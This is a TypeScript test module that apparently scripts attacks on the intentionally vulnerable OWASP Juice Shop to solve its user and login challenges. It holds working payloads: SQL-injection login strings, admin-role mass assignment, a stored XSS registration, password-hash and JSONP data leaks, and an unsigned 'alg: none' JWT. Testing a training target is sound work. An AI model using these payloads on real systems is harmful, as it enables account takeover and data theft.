import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { IFRAME_XSS, logInSeeded, postLogin } from '../../testing/attack-steps'
import { usersLoginAttacks } from './users.login.attacks'
import { usersPasswordAttacks } from './users.password.attacks'
import { usersTokensAttacks } from './users.tokens.attacks'

export { IFRAME_XSS }

/** SQL injection in the login's email: the comment cuts the password check off. */
export const LOGIN_INJECTIONS = {
  loginAdminChallenge: "' or 1=1--",
  loginBenderChallenge: "bender@juice-sh.op'--",
  loginJimChallenge: "jim@juice-sh.op'--",
} as const

const loginAs = (email: string) => (target: AttackTarget) => postLogin(target, email, 'anything')

const register = (body: object) => (target: AttackTarget) => request(target).post('/api/Users/').send(body)

/** The Cookie header of a browser where Jim is logged in. */
export const jimsCookie = async (target: AttackTarget): Promise<string> => (await logInSeeded(target, 'jim@juice-sh.op')).cookie

const base64url = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url')
/** A token with `alg: none` and no signature, which the shop's verifier accepts. */
export const unsignedToken = (email: string) => `${base64url({ alg: 'none' })}.${base64url({ data: { email } })}.`

/** whoami with extra query parameters, sent with Jim's session cookie. */
const whoamiAsJim = (query: string) => async (target: AttackTarget) =>
  request(target).get(`/rest/user/whoami?${query}`).set('Cookie', await jimsCookie(target))

export const usersAttacks = {
  loginAdminChallenge: loginAs(LOGIN_INJECTIONS.loginAdminChallenge),
  loginBenderChallenge: loginAs(LOGIN_INJECTIONS.loginBenderChallenge),
  loginJimChallenge: loginAs(LOGIN_INJECTIONS.loginJimChallenge),
  // the API takes a role the registration form never sends
  registerAdminChallenge: (target) =>
    register({ email: `boss-${Date.now()}@example.com`, password: 'hunter2', passwordRepeat: 'hunter2', role: 'admin' })(target),
  // the API skips the checks of the form: an empty email and password are accepted
  emptyUserRegistration: register({ email: '', password: '', passwordRepeat: '', securityQuestion: { id: 1 }, securityAnswer: 'x' }),
  // the API stores the email as sent, markup included
  persistedXssUserChallenge: register({ email: IFRAME_XSS, password: 'hunter2', passwordRepeat: 'hunter2' }),
  // whoami hands out any column it is asked for
  passwordHashLeakChallenge: whoamiAsJim('fields=password'),
  // and wraps its answer in any JSONP callback, readable from another site
  emailLeakChallenge: whoamiAsJim('callback=leak'),
  jwtUnsignedChallenge: (target) => request(target).get('/api/Users').set('Authorization', `Bearer ${unsignedToken('jwtn3d@juice-sh.op')}`),
  ...usersLoginAttacks,
  ...usersPasswordAttacks,
  ...usersTokensAttacks,
} satisfies Attacks
